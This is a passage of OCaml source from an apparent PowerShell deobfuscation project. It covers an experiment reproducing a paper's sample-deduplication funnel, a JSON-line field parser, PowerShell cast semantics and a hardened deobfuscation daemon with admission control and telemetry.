    those to 39,713 — a ~28:1 family-variant ratio.  This experiment builds
    a miniature feed with the same shape: malicious families each emitted as
    many hash-distinct variants (same structure, different strings), plus
    the junk rule-based file identification lets through (mail, HTML,
    binaries, bare strings). *)

open Pscommon

type funnel = {
  raw : int;
  valid_powershell : int;  (** after syntax and token filters *)
  unique_structures : int;  (** after structural dedup *)
  rejections : (string * int) list;
}

let variant_of rng clean =
  (* same structure, different strings: re-randomise every string literal *)
  match Pslex.Lexer.tokenize clean with
  | Error _ -> clean
  | Ok toks ->
      let edits =
        List.filter_map
          (fun t ->
            match t.Pslex.Token.kind with
            | Pslex.Token.String_single ->
                let fresh = Rng.ident rng ~min_len:4 ~max_len:12 in
                Some
                  (Patch.edit t.Pslex.Token.extent
                     (Printf.sprintf "'https://%s.example/%s'"
                        (String.lowercase_ascii fresh)
                        (Rng.ident rng ~min_len:3 ~max_len:6)))
            | _ -> None)
          toks
      in
      Patch.apply clean edits

let run ?(seed = 90210) ?(families = 40) ?(variants_per_family = 25) () =
  let rng = Rng.of_int seed in
  let feed = ref [] in
  for _ = 1 to families do
    let sub = Rng.split rng in
    let _, clean = Corpus.Templates.generate sub in
    let obfuscated, _ = Obfuscator.Obfuscate.wild_mix sub clean in
    for _ = 1 to Rng.int_in sub 1 variants_per_family do
      feed := variant_of sub obfuscated :: !feed
    done
  done;
  (* junk the feeds contain *)
  for _ = 1 to families * 2 do
    feed := Rng.pick rng (Corpus.Preprocess.junk_samples rng) :: !feed
  done;
  let raw = List.length !feed in
  let { Corpus.Preprocess.kept; rejected } = Corpus.Preprocess.run !feed in
  let structural_dups =
    List.length
      (List.filter
         (fun (_, why) -> why = Corpus.Preprocess.Structural_duplicate)
         rejected)
  in
  let tally =
    List.fold_left
      (fun acc (_, why) ->
        let k = Corpus.Preprocess.rejection_name why in
        let n = try List.assoc k acc with Not_found -> 0 in
        (k, n + 1) :: List.remove_assoc k acc)
      [] rejected
  in
  {
    raw;
    valid_powershell = List.length kept + structural_dups;
    unique_structures = List.length kept;
    rejections = List.sort (fun (a, _) (b, _) -> compare a b) tally;
  }

let print f =
  Printf.printf "SS IV-B1: preprocessing funnel\n";
  Printf.printf "  raw feed entries:            %6d   (paper: 2,025,175)\n" f.raw;
  Printf.printf "  valid PowerShell:            %6d   (paper: 1,127,349)\n"
    f.valid_powershell;
  Printf.printf "  unique structures kept:      %6d   (paper: 39,713)\n"
    f.unique_structures;
  List.iter
    (fun (k, n) -> Printf.printf "    rejected as %-22s %6d\n" k n)
    f.rejections;
  Printf.printf
    "  dedup ratio %.1f:1 (paper: %.1f:1)\n"
    (float_of_int f.valid_powershell /. float_of_int (max 1 f.unique_structures))
    (1_127_349.0 /. 39_713.0)
