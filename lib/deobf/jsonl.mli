(** Minimal field extraction over single-line JSON objects.

    Shared by the batch resume journal and the serve daemon's NDJSON
    protocol.  Not a general JSON parser: it scans {e flat} objects whose
    string values were escaped by {!Report.json_escape} (no raw newlines,
    no unescaped quotes).  Every accessor returns [None] on a malformed
    or absent field — callers degrade (skip the journal line, answer the
    request with a structured error) rather than raise. *)

val string_field : string -> string -> string option
(** [string_field line key] — the unescaped value of ["key": "..."]. *)

val int_field : string -> string -> int option

val float_field : string -> string -> float option
(** Accepts plain JSON numbers ([-1.5], [2e3]); [None] otherwise. *)

val bool_field : string -> string -> bool option

val field_start : string -> string -> int option
(** Index of the first value character after ["key":] and any spaces —
    the building block of the typed accessors, exposed for callers that
    need presence checks or custom scans. *)

val oneline : string -> string
(** Replace every newline with a space — turns this codebase's pretty
    multi-line JSON renderings into single NDJSON lines.  Only safe for
    JSON we rendered ourselves ({!Report.json_escape} never leaves a raw
    newline inside a string value). *)
