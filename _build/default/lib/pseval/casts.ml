(** Cast semantics ([\[type\] expr], ConvertExpressionAst).

    Obfuscation leans on a small set of casts: [\[char\]] of a code point,
    [\[char\[\]\]] of a string, [\[string\]], numeric casts, [\[byte\[\]\]]
    and the stream-constructing casts ([\[IO.MemoryStream\]] over a byte
    array). *)

open Psvalue
module Strcase = Pscommon.Strcase

exception Cast_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Cast_error s)) fmt

let normalize_type name =
  let n = Strcase.lower (String.trim name) in
  let n =
    if Strcase.starts_with ~prefix:"system." n then
      String.sub n 7 (String.length n - 7)
    else n
  in
  (* collapse internal whitespace in things like [char []] *)
  String.concat "" (String.split_on_char ' ' n)

let to_string_array v =
  Value.Arr
    (Array.of_list (List.map (fun x -> Value.Str (Value.to_string x)) (Value.to_list v)))

let to_int_array v =
  Value.Arr (Array.of_list (List.map (fun x -> Value.Int (Value.to_int x)) (Value.to_list v)))

let to_char_array v =
  match v with
  | Value.Str s -> Value.chars_to_value s
  | Value.Arr _ ->
      Value.Arr
        (Array.of_list (List.map (fun x -> Value.Char (Value.to_char x)) (Value.to_list v)))
  | v -> Value.chars_to_value (Value.to_string v)

let to_byte_array v = Value.bytes_to_value (Value.value_to_bytes v)

let parse_scriptblock text =
  match Psparse.Parser.parse text with
  | Ok { Psast.Ast.node = Psast.Ast.Script_block sb; _ } ->
      Value.Script_block { Value.sb_ast = sb; sb_text = text }
  | Ok _ -> fail "scriptblock parse produced an unexpected node"
  | Error e -> fail "cannot convert to scriptblock: %s" e.Psparse.Parser.message

let cast type_name v =
  match normalize_type type_name with
  | "string" -> Value.Str (Value.to_string v)
  | "char" -> Value.Char (Value.to_char v)
  | "int" | "int32" | "int64" | "long" | "int16" | "short" | "uint32" | "uint64"
  | "uint16" | "sbyte" ->
      Value.Int (Value.to_int v)
  | "byte" ->
      let n = Value.to_int v in
      if n < 0 || n > 255 then fail "value %d out of byte range" n
      else Value.Int n
  | "double" | "float" | "single" | "decimal" -> Value.Float (Value.to_float v)
  | "bool" | "boolean" -> Value.Bool (Value.to_bool v)
  | "char[]" -> to_char_array v
  | "byte[]" -> to_byte_array v
  | "int[]" | "int32[]" -> to_int_array v
  | "string[]" -> to_string_array v
  | "array" | "object[]" -> (
      match v with Value.Arr _ -> v | x -> Value.Arr [| x |])
  | "object" -> v
  | "void" -> Value.Null
  | "regex" | "text.regularexpressions.regex" -> Value.Str (Value.to_string v)
  | "scriptblock" | "management.automation.scriptblock" ->
      parse_scriptblock (Value.to_string v)
  | "io.memorystream" ->
      let data = Value.value_to_bytes v in
      Value.Obj
        { Value.otype = "System.IO.MemoryStream";
          okind = Value.Memory_stream { Value.data; pos = 0 } }
  | "securestring" | "security.securestring" -> (
      match v with
      | Value.Secure_string _ -> v
      | x -> Value.Secure_string (Value.to_string x))
  | "type" -> Value.Str (Value.to_string v)
  | other -> fail "unsupported cast to [%s]" other
