(** Deobfuscation as a service: a hardened long-running daemon.

    One listener domain multiplexes connections with [select] and parses
    NDJSON request lines; a {!Pscommon.Pool.Service} of worker domains
    runs each request through {!Batch.run_source} — the same retry
    ladder, fault containment and semantic gate as a batch file.  The
    architectural invariants:

    {ul
    {- {e admission control}: the worker queue is bounded; a request that
       does not fit is answered with an explicit ["overloaded"] response
       (with a [retry_after_ms] hint) instead of queueing unboundedly;}
    {- {e per-request budgets}: each request's deadline starts at admission
       and is installed as the {!Pscommon.Guard} ambient deadline around
       the whole pipeline, so every ladder rung inherits what is left of
       the request's budget — a request can time out, the daemon cannot;}
    {- {e fault containment}: any guard failure, chaos fault or worker
       exception becomes a structured error response; the worker recycles
       and the server never dies;}
    {- {e one response line per request line} — a client that sends [n]
       lines reads exactly [n] lines, whatever happened;}
    {- {e graceful drain}: on {!stop} (SIGTERM/SIGINT in {!run}, or the
       ["shutdown"] op) the listener stops accepting and reading, workers
       finish or deadline-out everything already queued, telemetry is
       flushed, and the loop exits 0.}} *)

module Guard = Pscommon.Guard
module Pool = Pscommon.Pool
module T = Pscommon.Telemetry
module Chaos = Pscommon.Chaos
module Memwatch = Pscommon.Memwatch

type bind = Unix_sock of string | Tcp of string * int

let bind_to_string = function
  | Unix_sock path -> "unix:" ^ path
  | Tcp (host, port) -> Printf.sprintf "tcp:%s:%d" host port

let parse_bind spec =
  match String.index_opt spec ':' with
  | None -> Ok (Unix_sock spec)  (* a bare path *)
  | Some i -> (
      let scheme = String.sub spec 0 i in
      let rest = String.sub spec (i + 1) (String.length spec - i - 1) in
      match scheme with
      | "unix" when rest <> "" -> Ok (Unix_sock rest)
      | "tcp" -> (
          match String.rindex_opt rest ':' with
          | Some j when j > 0 && j < String.length rest - 1 -> (
              let host = String.sub rest 0 j in
              let port = String.sub rest (j + 1) (String.length rest - j - 1) in
              match int_of_string_opt port with
              | Some p when p > 0 && p < 65536 -> Ok (Tcp (host, p))
              | _ -> Error ("invalid port: " ^ port))
          | _ -> Error ("expected tcp:HOST:PORT, got: " ^ spec))
      | _ -> Error ("expected unix:PATH or tcp:HOST:PORT, got: " ^ spec))

type config = {
  bind : bind;
  jobs : int;
  queue_cap : int;
  default_timeout_s : float;
  max_timeout_s : float;
  max_request_bytes : int;
  max_output_bytes : int;
  options : Engine.options;
  verify : bool;
  verify_opts : Verify.opts option;
  cache_cap : int;
  piece_cache_dir : string option;
  trace_dir : string option;
  trace_sample : int option;
  metrics_out : string option;
  metrics_addr : bind option;
  flight_dir : string option;
  grace_s : float;  (** watchdog patience past a request's deadline *)
  mem_soft_mb : int option;  (** shed admissions past this heap size *)
  mem_hard_mb : int option;  (** additionally recycle workers past this *)
  max_major_bytes : int option;  (** per-request major-allocation budget *)
  quarantine : bool;  (** adaptive rule quarantine (breakers on rollbacks) *)
}

let default_config bind =
  { bind; jobs = 1; queue_cap = 64; default_timeout_s = 30.0;
    max_timeout_s = 300.0; max_request_bytes = 8 * 1024 * 1024;
    max_output_bytes = 32 * 1024 * 1024; options = Engine.default_options;
    verify = false; verify_opts = None; cache_cap = 2048;
    piece_cache_dir = None; trace_dir = None; trace_sample = None;
    metrics_out = None; metrics_addr = None; flight_dir = None;
    grace_s = 2.0; mem_soft_mb = None; mem_hard_mb = None;
    max_major_bytes = None; quarantine = true }

(* ---------- metrics ---------- *)

let m_requests = T.Metrics.counter "serve.requests"
let m_request_ms = T.Metrics.histogram "serve.request_ms"
let m_shed = T.Metrics.counter "serve.shed"
let m_errors = T.Metrics.counter "serve.errors"
let m_connections = T.Metrics.counter "serve.connections"
let m_accept_faults = T.Metrics.counter "serve.accept_faults"
let m_read_faults = T.Metrics.counter "serve.read_faults"
let m_write_faults = T.Metrics.counter "serve.write_faults"
let m_queue_faults = T.Metrics.counter "serve.queue_faults"
let m_scrapes = T.Metrics.counter "serve.scrapes"
let m_wedge_faults = T.Metrics.counter "serve.wedge_faults"
let m_shed_memory = T.Metrics.counter "serve.shed_memory"

(* the admission EWMA, surfaced as a gauge so shed hints are observable *)
let m_ewma_ms = T.Metrics.gauge "serve.ewma_ms"

(* Rolling windows for the scrape endpoint: since-boot histograms answer
   "ever", these answer "the last minute" — sliding p50/p90/p99 over
   request latency, and req/s + shed/s rates whose window is the decay. *)
let w_request_ms = T.Window.window "serve.request_ms"
let w_shed = T.Window.window "serve.shed"

(* EWMA of request handling time, feeding the retry_after_ms hint in
   overload responses.  Process-wide and racy by design — a hint, not an
   SLA. *)
let avg_request_ms = Atomic.make 250.0

let note_request_ms ms =
  T.Metrics.observe m_request_ms ms;
  T.Window.observe w_request_ms ms;
  let old = Atomic.get avg_request_ms in
  (* a lost race loses one sample of smoothing, nothing else *)
  ignore (Atomic.compare_and_set avg_request_ms old ((0.8 *. old) +. (0.2 *. ms)));
  T.Metrics.set m_ewma_ms (int_of_float (Atomic.get avg_request_ms))

(* ---------- connections ---------- *)

type conn = {
  fd : Unix.file_descr;
  mutable pending : string;  (* bytes read but not yet newline-terminated *)
  send_mutex : Mutex.t;  (* listener (overload/health) and workers both write *)
  mutable closed : bool;
}

(* Deliver one response line.  The "serve.write" probe models a fault in
   the response path; containment here means the fault is {e counted} and
   the write still happens (one retry without the probe), so the
   one-line-per-request contract survives injection.  A real socket error
   (peer gone) closes the connection — the queued work for it still runs,
   its response is simply dropped on the floor like any dead client's. *)
let send conn line =
  if not conn.closed then begin
    Mutex.lock conn.send_mutex;
    Fun.protect
      ~finally:(fun () -> Mutex.unlock conn.send_mutex)
      (fun () ->
        (try Chaos.probe "serve.write"
         with _ -> T.Metrics.incr m_write_faults);
        let data = line ^ "\n" in
        let n = String.length data in
        let rec go off =
          if off < n then
            go (off + Unix.write_substring conn.fd data off (n - off))
        in
        try go 0 with Unix.Unix_error _ | Sys_error _ -> conn.closed <- true)
  end

(* ---------- responses ---------- *)

let error_json ~id ~kind ~detail =
  T.Metrics.incr m_errors;
  Printf.sprintf "{\"id\": %s, \"status\": \"error\", \"kind\": %s, \"detail\": %s}"
    id
    (Report.json_string kind)
    (Report.json_string detail)

let overloaded_json ~id ~depth ~reason =
  T.Metrics.incr m_shed;
  if String.equal reason "memory" then T.Metrics.incr m_shed_memory;
  T.Window.observe w_shed 1.0;
  let retry =
    Float.max 10.0
      (Float.min 10_000.0
         (Atomic.get avg_request_ms *. float_of_int (depth + 1)))
  in
  Printf.sprintf
    "{\"id\": %s, \"status\": \"overloaded\", \"reason\": %s, \
     \"retry_after_ms\": %d}"
    id (Report.json_string reason)
    (int_of_float retry)

(* ---------- requests ---------- *)

type request = {
  rq_conn : conn;
  rq_line : string;
  rq_seq : int;
  rq_id : string;  (* already-rendered JSON value for the "id" field *)
  rq_tid : string;  (* trace id, allocated at admission *)
  rq_deadline : Guard.deadline;
  rq_timeout_s : float;
  rq_answered : bool Atomic.t;
      (* one-response-per-request CAS: the worker and the watchdog can both
         try to answer (the watchdog wins a wedge, the worker wins a late
         finish); exactly one send happens either way *)
}

let respond req line =
  if Atomic.compare_and_set req.rq_answered false true then
    send req.rq_conn line

(* the client's id is echoed verbatim (string or integer); without one the
   server's own sequence number keeps responses matchable *)
let id_of_line ~seq line =
  match Jsonl.string_field line "id" with
  | Some s -> Report.json_string s
  | None -> (
      match Jsonl.int_field line "id" with
      | Some n -> string_of_int n
      | None -> string_of_int seq)

(* One warm piece cache for the whole process, shared by every worker
   domain ({!Recover.Cache} is mutex-guarded): a decode piece recovered
   for one request is a hit for every later request, whichever worker
   runs it.  With [piece_cache_dir] the cache also persists across daemon
   restarts, guarded by the same options fingerprint as a batch run. *)
let make_cache cfg =
  Recover.Cache.create ~cap:cfg.cache_cap ?dir:cfg.piece_cache_dir
    ~fingerprint:
      (Batch.piece_cache_fingerprint ~options:(Some cfg.options)
         ~timeout_s:(Some cfg.default_timeout_s)
         ~max_output_bytes:(Some cfg.max_output_bytes))
    ()

(* per-domain scratch ring for unsampled traced requests, mirroring the
   batch sampling fast path *)
let scratch_trace : T.trace Domain.DLS.key =
  Domain.DLS.new_key (fun () -> T.create ())

(* Per-request tracing, two consumers: [trace_dir] serializes sampled
   requests to [req-<seq>.trace.jsonl]; a request whose line carries
   ["trace": true] additionally gets its events inlined in the response
   (recorded into a small dedicated ring so the inline field stays
   bounded).  Either way the trace is created/reset inside the request-id
   scope, so its trace_id is the request's. *)
let with_request_trace cfg seq ~inline f =
  match (cfg.trace_dir, inline) with
  | None, None -> f ()
  | _ ->
      let sampled =
        match cfg.trace_sample with Some n when n > 1 -> seq mod n = 0 | _ -> true
      in
      let trace =
        match inline with
        | Some tr -> tr
        | None ->
            if sampled then T.create ()
            else begin
              let t = Domain.DLS.get scratch_trace in
              T.reset t;
              t
            end
      in
      let v =
        T.with_trace trace (fun () ->
            T.span ~attrs:[ ("request", T.I seq) ] "serve.request" f)
      in
      (match cfg.trace_dir with
      | Some dir when sampled ->
          let path =
            Filename.concat dir (Printf.sprintf "req-%d.trace.jsonl" seq)
          in
          ignore
            (Guard.protect (fun () ->
                 Out_channel.with_open_bin path (fun oc ->
                     Out_channel.output_string oc (T.to_jsonl trace))))
      | _ -> ());
      v

(* The worker-side request handler.  Totalised twice over: the pipeline
   inside is {!Batch.run_source} (already total), the outer
   {!Guard.protect} installs the request's admission-time deadline as the
   ambient budget (every ladder rung's own deadline is min'd against it)
   and catches anything outside the pipeline, and the final [try] is the
   last-resort conversion of a response-rendering bug into an error
   response rather than a recycled-but-silent worker. *)
let handle cfg cache req =
  (* everything the request records — trace events, flight entries, its
     response — carries the trace id allocated at admission *)
  T.with_request_id req.rq_tid @@ fun () ->
  try
    let line = req.rq_line in
    let id = req.rq_id in
    T.Metrics.incr m_requests;
    let t0 = Unix.gettimeofday () in
    (* per-request trace toggle: a bounded dedicated ring whose events are
       inlined in the response *)
    let inline =
      if Jsonl.bool_field line "trace" = Some true then
        Some (T.create ~capacity:4096 ())
      else None
    in
    let response =
      Chaos.with_scope (Printf.sprintf "req-%d" req.rq_seq) @@ fun () ->
      (* the "serve.wedge" site models the failure the watchdog exists for:
         a worker stuck in a loop that never reaches a Guard checkpoint, so
         the cooperative deadline cannot fire.  The injected loop is
         {e bounded} (deadline + 3 grace windows — past the point where the
         supervisor must have declared the wedge) so chaos runs always
         terminate; a real wedge would spin forever and be abandoned. *)
      (match Chaos.probe "serve.wedge" with
      | () -> ()
      | exception _ ->
          T.Metrics.incr m_wedge_faults;
          let until = req.rq_deadline +. (3.0 *. cfg.grace_s) in
          while Unix.gettimeofday () < until do
            ignore (Sys.opaque_identity 0)
          done);
      with_request_trace cfg req.rq_seq ~inline @@ fun () ->
      let src =
        match Jsonl.string_field line "script" with
        | Some s -> Ok s
        | None -> (
            match Jsonl.string_field line "path" with
            | None -> Error ("bad-request", "missing \"script\" or \"path\"")
            | Some p -> (
                match
                  Guard.protect (fun () ->
                      Chaos.probe "batch.read";
                      In_channel.with_open_bin p In_channel.input_all)
                with
                | Ok s -> Ok s
                | Error f -> Error ("read-failed", Guard.failure_to_string f)))
      in
      match src with
      | Error (kind, detail) -> error_json ~id ~kind ~detail
      | Ok src -> (
          let verify =
            Option.value ~default:cfg.verify (Jsonl.bool_field line "verify")
          in
          match
            Guard.protect ~deadline:req.rq_deadline
              ?max_major_bytes:cfg.max_major_bytes (fun () ->
                Batch.run_source ~options:cfg.options
                  ~timeout_s:req.rq_timeout_s
                  ~max_output_bytes:cfg.max_output_bytes ~cache ~verify
                  ?verify_opts:cfg.verify_opts
                  ~name:(Printf.sprintf "req-%d" req.rq_seq)
                  src)
          with
          | Ok (outcome, output) ->
              let status =
                if outcome.Batch.failures = [] then "ok" else "degraded"
              in
              Printf.sprintf
                "{\"id\": %s, \"status\": %s, \"trace_id\": %s, \
                 \"output\": %s, \"report\": %s}"
                id
                (Report.json_string status)
                (Report.json_string req.rq_tid)
                (Report.json_string output)
                (Jsonl.oneline (Batch.outcome_to_json outcome))
          | Error failure ->
              (* a blown deadline is a flight-recorder trigger: dump the
                 spans of the request that ran out of budget *)
              (match failure with
              | Guard.Timeout -> ignore (T.Flight.dump ~reason:"deadline" ())
              | _ -> ());
              error_json ~id ~kind:(Guard.failure_label failure)
                ~detail:(Guard.failure_to_string failure))
    in
    let response =
      match inline with
      | None -> response
      | Some tr ->
          (* splice the inline trace into the already-rendered response *)
          let n = String.length response in
          if n > 0 && response.[n - 1] = '}' then
            String.sub response 0 (n - 1)
            ^ Printf.sprintf ", \"trace\": %s}" (T.events_to_json_array tr)
          else response
    in
    respond req response;
    note_request_ms ((Unix.gettimeofday () -. t0) *. 1000.0)
  with e ->
    respond req
      (error_json ~id:req.rq_id ~kind:"internal"
         ~detail:(Printexc.to_string e));
    (* re-raise so the service pool counts the recycle (and dumps the
       flight ring while this domain's entries are still the request's) *)
    raise e

(* ---------- listener-side ops ---------- *)

let health_json ~id ~started ~service ~draining cfg =
  Printf.sprintf
    "{\"id\": %s, \"status\": \"ok\", \"op\": \"health\", \"state\": %s, \
     \"queue_depth\": %d, \"inflight\": %d, \"jobs\": %d, \"queue_cap\": %d, \
     \"uptime_s\": %.1f}"
    id
    (Report.json_string (if draining then "draining" else "serving"))
    (Pool.Service.depth service)
    (Pool.Service.inflight service)
    cfg.jobs cfg.queue_cap
    (Unix.gettimeofday () -. started)

(* the self-healing plane's state, shared between the daemon's [metrics]
   op and the CLI's [--summary] rendering *)
let selfheal_json () =
  let c name = T.Metrics.counter_value (T.Metrics.counter name) in
  Printf.sprintf
    "{\"recycled\": %d, \"recycled_mem\": %d, \"wedged\": %d, \
     \"respawns\": %d, \"respawn_failures\": %d, \
     \"quarantine\": {\"enabled\": %b, \"rules\": {%s}}, \"memory\": %s}"
    (c "pool.service.recycled")
    (c "pool.service.recycled_mem")
    (c "pool.service.wedged")
    (c "pool.service.respawns")
    (c "pool.service.respawn_failures")
    (Quarantine.enabled ())
    (String.concat ", "
       (List.map
          (fun (rule, st) ->
            Printf.sprintf "%s: %s" (Report.json_string rule)
              (Report.json_string st))
          (Quarantine.snapshot ())))
    (Memwatch.to_json ())

let metrics_json ~id ~cache =
  let cs = Recover.Cache.stats cache in
  let hit_rate =
    if cs.Recover.Cache.lookups = 0 then 0.0
    else
      float_of_int cs.Recover.Cache.hits
      /. float_of_int cs.Recover.Cache.lookups
  in
  (* the dynamic-recovery funnel over the daemon's lifetime, from the
     process-wide metrics registry (workers share it) *)
  let dyn name = T.Metrics.counter_value (T.Metrics.counter name) in
  Printf.sprintf
    "{\"id\": %s, \"status\": \"ok\", \"op\": \"metrics\", \
     \"cache\": {\"entries\": %d, \"lookups\": %d, \"hits\": %d, \
     \"hit_rate\": %.3f, \"evictions\": %d, \"persistent_loads\": %d}, \
     \"dynamic\": {\"attempted\": %d, \"recovered\": %d, \
     \"rolled_back\": %d, \"unverifiable\": %d}, \
     \"selfheal\": %s, \"metrics\": %s}"
    id cs.Recover.Cache.entries cs.Recover.Cache.lookups
    cs.Recover.Cache.hits hit_rate cs.Recover.Cache.evictions
    cs.Recover.Cache.persistent_loads
    (dyn "recover.dynamic.attempted")
    (dyn "recover.dynamic.recovered")
    (dyn "verify.dynamic_rolled_back")
    (dyn "recover.dynamic.unverifiable")
    (selfheal_json ())
    (Jsonl.oneline (T.Metrics.snapshot_to_json (T.Metrics.snapshot ())))

(* ---------- sockets ---------- *)

let open_socket = function
  | Unix_sock path ->
      (* a stale socket file from a previous run would make bind fail *)
      (try if Sys.file_exists path then Sys.remove path
       with Sys_error _ -> ());
      let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
      (try
         Unix.bind fd (Unix.ADDR_UNIX path);
         Unix.listen fd 64;
         Ok fd
       with e ->
         (try Unix.close fd with _ -> ());
         Error (Printf.sprintf "bind %s: %s" path (Printexc.to_string e)))
  | Tcp (host, port) -> (
      let fd = Unix.socket Unix.PF_INET Unix.SOCK_STREAM 0 in
      try
        Unix.setsockopt fd Unix.SO_REUSEADDR true;
        let addr =
          try Unix.inet_addr_of_string host
          with Failure _ -> (Unix.gethostbyname host).Unix.h_addr_list.(0)
        in
        Unix.bind fd (Unix.ADDR_INET (addr, port));
        Unix.listen fd 64;
        Ok fd
      with e ->
        (try Unix.close fd with _ -> ());
        Error
          (Printf.sprintf "bind %s:%d: %s" host port (Printexc.to_string e)))

(* ---------- the metrics scrape endpoint ---------- *)

(* A deliberately minimal HTTP/1.1 GET handler on its own listener (and
   its own domain), so a Prometheus scrape never contends with request
   admission: the main loop's select set, accept backlog and worker queue
   are untouched by scrapes, and a slow scraper can at worst slow other
   scrapers.  One request per connection ([Connection: close]) keeps the
   loop allocation-free of connection state. *)

let http_response ~status body =
  Printf.sprintf
    "HTTP/1.1 %s\r\nContent-Type: text/plain; version=0.0.4; \
     charset=utf-8\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
    status (String.length body) body

let scrape_response head =
  let request_line =
    match String.index_opt head '\r' with
    | Some i -> String.sub head 0 i
    | None -> head
  in
  match String.split_on_char ' ' request_line with
  | "GET" :: path :: _
    when path = "/metrics" || String.starts_with ~prefix:"/metrics?" path ->
      T.Metrics.incr m_scrapes;
      http_response ~status:"200 OK" (T.render_prometheus ())
  | _ -> http_response ~status:"404 Not Found" "not found\n"

(* read the request head (bounded, short deadline), answer, close — total:
   a malformed or stalled scraper costs its own connection, nothing else *)
let serve_scrape fd =
  (try
     let buf = Buffer.create 512 in
     let chunk = Bytes.create 4096 in
     let deadline = Unix.gettimeofday () +. 2.0 in
     let rec read_head () =
       (* the request line is all we parse; stop at its newline *)
       if
         Buffer.length buf < 8192
         && not (String.contains (Buffer.contents buf) '\n')
       then begin
         let remaining = deadline -. Unix.gettimeofday () in
         if remaining > 0.0 then
           match Unix.select [ fd ] [] [] remaining with
           | [ _ ], _, _ -> (
               match Unix.read fd chunk 0 (Bytes.length chunk) with
               | 0 -> ()
               | n ->
                   Buffer.add_subbytes buf chunk 0 n;
                   read_head ()
               | exception Unix.Unix_error _ -> ())
           | _ -> ()
       end
     in
     read_head ();
     let response = scrape_response (Buffer.contents buf) in
     let data = Bytes.of_string response in
     let len = Bytes.length data in
     let rec write_all off =
       if off < len then
         match Unix.write fd data off (len - off) with
         | n when n > 0 -> write_all (off + n)
         | _ -> ()
     in
     write_all 0
   with _ -> ());
  try Unix.close fd with Unix.Unix_error _ -> ()

let metrics_loop stop listen_fd =
  while not (Atomic.get stop) do
    match Unix.select [ listen_fd ] [] [] 0.05 with
    | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
    | [ _ ], _, _ -> (
        match Unix.accept listen_fd with
        | exception Unix.Unix_error _ -> ()
        | fd, _ -> serve_scrape fd)
    | _ -> ()
  done;
  try Unix.close listen_fd with Unix.Unix_error _ -> ()

(* ---------- the serve loop ---------- *)

let serve_loop cfg stop listen_fd =
  (* a client that disconnects mid-response must cost an EPIPE errno, not
     a process-killing signal *)
  (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore
   with Invalid_argument _ | Sys_error _ -> ());
  let started = Unix.gettimeofday () in
  (* enable the flight recorder before any worker spawns so every domain
     records from its first request *)
  Option.iter (fun dir -> T.Flight.set_sink (Some dir)) cfg.flight_dir;
  (* the memory governor and the rule quarantine are daemon-scoped policy:
     configure both before any worker spawns *)
  Memwatch.configure ?soft_mb:cfg.mem_soft_mb ?hard_mb:cfg.mem_hard_mb ();
  Memwatch.install_alarm ();
  Quarantine.set_enabled cfg.quarantine;
  let cache = make_cache cfg in
  (* the watchdog: answer a wedged request from the supervisor domain (the
     CAS in [respond] keeps the one-line-per-request contract if the worker
     somehow finishes late), recycle workers between requests while over
     the hard memory watermark *)
  let supervise =
    { Pool.Service.sv_grace_s = cfg.grace_s;
      sv_deadline_of = (fun req -> req.rq_deadline);
      sv_describe = (fun req -> Printf.sprintf "req-%d" req.rq_seq);
      sv_on_wedged =
        (fun req ->
          respond req
            (error_json ~id:req.rq_id
               ~kind:(Guard.failure_label Guard.Wedged)
               ~detail:(Guard.failure_to_string Guard.Wedged)));
      sv_should_recycle = (fun () -> Memwatch.level () = Memwatch.Hard) }
  in
  let service =
    Pool.Service.create ~jobs:cfg.jobs ~queue_cap:cfg.queue_cap ~supervise
      (handle cfg cache)
  in
  (* the scrape endpoint listens on its own socket in its own domain —
     scrapes never touch the admission path.  It gets its OWN stop flag:
     [stop] starts the drain, but the daemon must stay observable while
     it drains, so the scrape loop is stopped only after the drain is
     done *)
  let metrics_stop = Atomic.make false in
  let metrics_listener =
    match cfg.metrics_addr with
    | None -> None
    | Some addr -> (
        match open_socket addr with
        | Error e ->
            T.Log.warn (fun () -> "metrics endpoint: " ^ e);
            None
        | Ok fd ->
            T.Log.info (fun () ->
                "metrics endpoint on " ^ bind_to_string addr);
            Some (addr, Domain.spawn (fun () -> metrics_loop metrics_stop fd)))
  in
  let conns : (Unix.file_descr, conn) Hashtbl.t = Hashtbl.create 16 in
  let seq = ref 0 in
  (* previous admission-time pressure level: cache shrinking happens on
     the Ok -> pressured crossing, not on every shed request *)
  let last_mem_level = ref Memwatch.Ok in
  let close_conn conn =
    conn.closed <- true;
    Hashtbl.remove conns conn.fd;
    try Unix.close conn.fd with Unix.Unix_error _ -> ()
  in
  let accept_new () =
    match Chaos.probe "serve.accept" with
    | exception _ ->
        (* contained: the pending connection stays in the kernel backlog
           and select reports it again next round — delayed, not lost *)
        T.Metrics.incr m_accept_faults
    | () -> (
        match Unix.accept listen_fd with
        | exception Unix.Unix_error _ -> ()
        | fd, _ ->
            T.Metrics.incr m_connections;
            Hashtbl.replace conns fd
              { fd; pending = ""; send_mutex = Mutex.create (); closed = false })
  in
  let process_line conn line =
    if String.trim line <> "" then begin
      incr seq;
      let id = id_of_line ~seq:!seq line in
      let op =
        Option.value ~default:"deobfuscate" (Jsonl.string_field line "op")
      in
      match op with
      | "health" ->
          send conn
            (health_json ~id ~started ~service ~draining:(Atomic.get stop) cfg)
      | "metrics" -> send conn (metrics_json ~id ~cache)
      | "shutdown" ->
          send conn
            (Printf.sprintf "{\"id\": %s, \"status\": \"ok\", \"op\": \"shutdown\"}" id);
          Atomic.set stop true
      | "deobfuscate" -> (
          (* the memory governor gates admission before the queue does:
             over the soft watermark new work is shed with an explicit
             reason (work already admitted runs to completion), and the
             first crossing sheds the caches' cold generations too *)
          let mem_level = Memwatch.level () in
          if mem_level <> Memwatch.Ok then begin
            if !last_mem_level = Memwatch.Ok then Recover.Cache.shrink cache;
            last_mem_level := mem_level;
            send conn
              (overloaded_json ~id ~depth:(Pool.Service.depth service)
                 ~reason:"memory")
          end
          else begin
            last_mem_level := Memwatch.Ok;
          let timeout_s =
            Float.min cfg.max_timeout_s
              (Option.value ~default:cfg.default_timeout_s
                 (Jsonl.float_field line "timeout_s"))
          in
          let req =
            { rq_conn = conn; rq_line = line; rq_seq = !seq; rq_id = id;
              rq_tid = T.new_trace_id ();
              (* the budget starts at admission: time spent queued is part
                 of the request's deadline, which also bounds drain *)
              rq_deadline = Guard.deadline_after timeout_s;
              rq_timeout_s = timeout_s;
              rq_answered = Atomic.make false }
          in
          match Chaos.probe "serve.queue" with
          | exception e ->
              (* an injected queue fault costs this one request a
